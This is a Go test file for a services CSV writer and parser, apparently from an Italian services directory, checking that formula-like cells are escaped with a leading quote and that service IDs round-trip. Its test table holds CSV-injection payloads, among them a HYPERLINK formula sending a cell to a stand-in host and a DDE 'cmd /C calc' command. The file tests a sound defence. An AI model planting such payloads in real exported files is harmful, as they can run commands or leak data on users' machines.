package model

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
)

// rawCells reads a services CSV without taking any guard off: the cells as a
// spreadsheet program would see them, by column name, one map per row.
func rawCells(t *testing.T, data []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("not CSV: %v", err)
	}
	var out []map[string]string
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, h := range recs[0] {
			row[h] = rec[i]
		}
		out = append(out, row)
	}
	return out
}

// Cells a spreadsheet would run are written with a quote in front and read
// back as typed; phone numbers and plain numbers are written as they are.
func TestServicesCSVFormulaCells(t *testing.T) {
	tests := []struct {
		name    string
		value   string
		written string
	}{
		{"hyperlink", `=HYPERLINK("http://example.invalid/?x="&A1,"Clic")`, `'=HYPERLINK("http://example.invalid/?x="&A1,"Clic")`},
		{"at", "@SUM(1)", "'@SUM(1)"},
		{"plus with a function", "+SUM(1)", "'+SUM(1)"},
		{"minus with a function", "-1+SUM(1)", "'-1+SUM(1)"},
		{"dde", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"tab", "\t=1", "'\t=1"},
		{"already quoted", "'=1", "''=1"},
		// The shared rule (exchange.GuardFormula, docs/exchange.md): text of
		// digits, spaces and . / ( ) - + holds no function, reference or
		// command, so phone numbers stay readable in a spreadsheet.
		{"phone", "+39 06 1234567", "+39 06 1234567"},
		{"phone with dashes", "+39-06-1234567", "+39-06-1234567"},
		{"arithmetic only", "-1+1", "-1+1"},
		{"a quote of its own", "'ciao", "'ciao"},
		{"plain", "Via Roma 1", "Via Roma 1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := []Service{{UID: "0123456789abcdef0123456789abcdef", Name: "Servizio", Kind: ServiceCPI,
				Address: tt.value, Phone: tt.value, Hours: tt.value, Languages: []string{"it", "ar"}, Area: tt.value, Notes: tt.value}}
			var buf bytes.Buffer
			if err := WriteServicesCSV(&buf, in); err != nil {
				t.Fatal(err)
			}
			raw := rawCells(t, buf.Bytes())
			for _, col := range []string{"address", "phone", "hours", "area", "notes"} {
				if raw[0][col] != tt.written {
					t.Errorf("%s written as %q, want %q", col, raw[0][col], tt.written)
				}
			}
			got, err := ParseServicesCSV(&buf)
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != 1 || !reflect.DeepEqual(got[0], in[0]) {
				t.Errorf("read back %+v, want %+v", got, in)
			}
		})
	}
}

// A name or a kind starting like a formula is guarded too: every cell is.
func TestServicesCSVGuardsEveryColumn(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteServicesCSV(&buf, []Service{{Name: "=1+1", Kind: "@x", Email: "=a@b", Languages: []string{"-x"}}}); err != nil {
		t.Fatal(err)
	}
	raw := rawCells(t, buf.Bytes())[0]
	for col, want := range map[string]string{"name": "'=1+1", "kind": "'@x", "email": "'=a@b", "languages": "'-x"} {
		if raw[col] != want {
			t.Errorf("%s written as %q, want %q", col, raw[col], want)
		}
	}
}

// The map carries each service's stable ID, and a list without the column
// (made by hand, or by an older version) still reads, without IDs.
func TestServicesCSVCarriesUIDs(t *testing.T) {
	in := []Service{NumeroVerde, {UID: "fedcba9876543210fedcba9876543210", Name: "CPI Latina", Kind: ServiceCPI}}
	var buf bytes.Buffer
	if err := WriteServicesCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	if header, _, _ := strings.Cut(buf.String(), "\n"); !strings.Contains(header, "uid") {
		t.Fatalf("header %q has no uid column", header)
	}
	got, err := ParseServicesCSV(&buf)
	if err != nil || len(got) != 2 || got[0].UID != NumeroVerdeUID || got[1].UID != in[1].UID {
		t.Fatalf("read back %+v %v", got, err)
	}

	tests := []struct {
		name, csv, uid string
		field          string // the error's field, "" when the file reads
	}{
		{"no uid column", "name,kind\nCPI Latina,cpi\n", "", ""},
		{"empty uid", "name,kind,uid\nCPI Latina,cpi,\n", "", ""},
		{"upper case", "name,kind,uid\nCPI Latina,cpi,FEDCBA9876543210FEDCBA9876543210\n", "fedcba9876543210fedcba9876543210", ""},
		{"zeros a spreadsheet dropped", "name,kind,uid\nNumero Verde Antitratta,anti_trafficking,1\n", NumeroVerdeUID, ""},
		{"not an id", "name,kind,uid\nCPI Latina,cpi,KOFI-1\n", "", "services.0.uid"},
		{"too long", "name,kind,uid\nA,cpi,\nB,cpi,0123456789abcdef0123456789abcdef0\n", "", "services.1.uid"},
		{"a bad row names its row and field", "name,kind\nA,cpi\nB,spa\n", "", "services.1.kind"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseServicesCSV(strings.NewReader(tt.csv))
			if tt.field != "" {
				var e *Error
				if !errors.As(err, &e) || e.Field != tt.field || got != nil {
					t.Fatalf("got %+v, error %v: want an error on %s", got, err, tt.field)
				}
				return
			}
			if err != nil || len(got) != 1 || got[0].UID != tt.uid {
				t.Fatalf("got %+v %v, want uid %q", got, err, tt.uid)
			}
		})
	}
}
